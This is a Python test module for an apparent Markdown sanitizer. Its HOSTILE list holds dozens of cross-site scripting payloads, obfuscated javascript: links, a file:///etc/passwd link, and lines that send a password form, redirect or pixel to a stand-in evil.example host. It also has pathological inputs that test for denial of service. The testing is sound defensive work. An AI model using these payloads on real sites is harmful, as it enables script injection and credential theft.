"""What people write as Markdown can never become a script, a style or a request to a stranger."""

from __future__ import annotations

import html.parser
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.core.markdown import ATTRIBUTES, TAGS, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div hx-get=/admin hx-trigger=load></div>",
    "<button data-key=1 data-open=x>x</button>",
    "<p id=main class=toasts>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](https://a.example \"t' onclick='alert(1)\")",
    '[x](https://a.example/"onmouseover=alert(1))',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](y)',
    "![![a](b)](c)",
    "```<script>\nalert(1)\n```",
    '```x" onclick="alert(1)\ncode\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "[x](//evil.example)",
    "[x](/projects/1/delete)",
    "[x](\\\\evil.example)",
    "\x00<script\x00>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


class Reader(html.parser.HTMLParser):
    """Collects every element and attribute, as a browser would find them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(source: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(render(source))
    reader.close()
    return reader.found


def assert_harmless(source: str) -> None:
    for tag, attributes in elements(source):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        href = attributes.get("href") or "https:"
        assert href.lower().startswith(("http:", "https:", "mailto:"))


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_source_is_harmless(source):
    assert_harmless(source)


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "**", "\n", "> ", "`", "[", "](", ")", "<", "a"]), max_size=8
    )
)
def test_no_combination_of_hostile_parts_gets_through(parts):
    assert_harmless("".join(parts))


def test_a_link_says_nothing_about_where_it_was_followed_from():
    [(_, attributes)] = [e for e in elements("[x](https://example.org/)") if e[0] == "a"]
    assert attributes == {"href": "https://example.org/", "rel": "noopener noreferrer nofollow"}


def test_an_image_is_its_description():
    assert render("see ![a *cat*](https://evil.example/x.gif)") == "<p>see a cat</p>\n"


def test_html_is_shown_not_run():
    assert "&lt;b&gt;" in render("<b>bold</b>")


def test_headings_stand_below_those_of_the_page():
    assert [tag for tag, _ in elements("# a\n\n## b\n\n###### c")] == ["h3", "h4", "h6"]


def test_tables_lists_and_code_are_kept():
    tags = {tag for tag, _ in elements("| a |\n|---|\n| b |\n\n3. c\n\n    d = 1\n\n~~e~~")}
    assert {"table", "th", "td", "ol", "li", "s"} <= tags


@pytest.mark.parametrize(
    "source",
    ["[" * 50_000, "> " * 20_000 + "x", "*a " * 30_000, "`" * 50_000, "- " * 10_000, "![" * 20_000],
)
def test_deep_or_endless_source_takes_little_time(source):
    # Of this process alone: what else the machine does must not fail it.
    began = time.process_time()
    assert_harmless(source)
    assert time.process_time() - began < 5
